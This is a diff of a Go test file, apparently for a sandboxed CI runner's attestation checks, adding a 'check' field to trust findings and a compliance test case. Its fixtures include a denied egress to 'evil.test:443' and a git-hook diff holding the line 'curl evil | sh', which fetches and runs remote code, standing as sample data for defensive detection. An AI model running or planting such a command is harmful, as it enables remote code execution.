@@ -56,7 +56,7 @@ func predicate(execs, decisions, findings int) Predicate {
 		p.Egress.Summary = []EgressSummary{{Destination: "evil.test:443", Denied: decisions / 10}, {Destination: "host1.example.com:443", Allowed: decisions - decisions/10}}
 	}
 	for i := 0; i < findings; i++ {
-		p.Trust.Findings = append(p.Trust.Findings, TrustFinding{Phase: "runtime", Category: "git-hooks", Path: fmt.Sprintf(".git/hooks/h%d", i), Kind: "added", Severity: "warning", Action: "readonly", Outcome: "reverted", Reason: "created by the job", DiffSHA256: strings.Repeat("0", 64), Diff: "--- a\n+++ b\n@@ -0,0 +1 @@\n+curl evil | sh\n"})
+		p.Trust.Findings = append(p.Trust.Findings, TrustFinding{Phase: "runtime", Category: "git-hooks", Check: "runtime-diff", Path: fmt.Sprintf(".git/hooks/h%d", i), Kind: "added", Severity: "warning", Action: "readonly", Outcome: "reverted", Reason: "created by the job", DiffSHA256: strings.Repeat("0", 64), Diff: "--- a\n+++ b\n@@ -0,0 +1 @@\n+curl evil | sh\n"})
 	}
 	return p
 }
@@ -244,6 +244,7 @@ func TestCompliance(t *testing.T) {
 	}{
 		{"passes", `predicate: verdict: passed: true` + "\n" + `predicate: runner: gvisorVersion: >="release-20260101"`, ""},
 		{"no error findings", `predicate: trust: findings: [...{severity: !="error"}]`, "severity"},
+		{"findings of one check only", `predicate: trust: findings: [...{check: "workflow"}]`, "check"},
 		{"no denials", `predicate: egress: summary: [...{denied: 0}]`, "denied"},
 		{"approved policies", `predicate: policy: effectiveSha256: "` + strings.Repeat("f", 64) + `"`, "effectiveSha256"},
 		{"policy syntax error", `predicate: {`, "policy"},
